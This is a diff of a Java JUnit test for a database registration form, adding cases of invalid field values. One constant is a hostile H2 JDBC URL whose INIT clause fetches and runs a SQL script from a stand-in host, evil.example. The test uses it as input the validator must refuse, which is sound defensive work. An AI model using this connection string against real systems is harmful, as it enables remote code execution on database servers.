@@ -19,15 +19,25 @@ import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 class RegistrationFormTest {
-  /** No value of what says where a database is; a name it could be, and stays one. */
+  /** To be refused wherever it stands. */
   private static final String URL = "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'";
 
   static Stream<Arguments> wrongValues() {
     return Stream.of(
             wrong("hostname", "a b", "", 7, true, Map.of(), URL, "h2:mem"),
             wrong("port", 0, 65_536, -1, "5432", 5432.5, 5e99, true, 1L << 40, URL),
-            wrong("db_name", "", "a\nb", "a\0", "x".repeat(64), "é".repeat(32), 7, "\ud800"),
-            wrong("username", "", "a\tb", "x".repeat(129), 7, "\udfff"),
+            wrong(
+                "db_name",
+                "",
+                "a\nb",
+                "a\0",
+                "x".repeat(64),
+                "é".repeat(32),
+                7,
+                "\ud800",
+                URL,
+                "H2:mem:x"),
+            wrong("username", "", "a\tb", "x".repeat(129), 7, "\udfff", URL, "JDBC:x"),
             wrong(
                 "password", "", "x".repeat(1001), "********", "••••••", "●●●", "a\0b", 7, "\ud800"),
             wrong("db_type", "", "oracle9000", "postgres ", "h2", "H2", URL, "sqlite", 7))
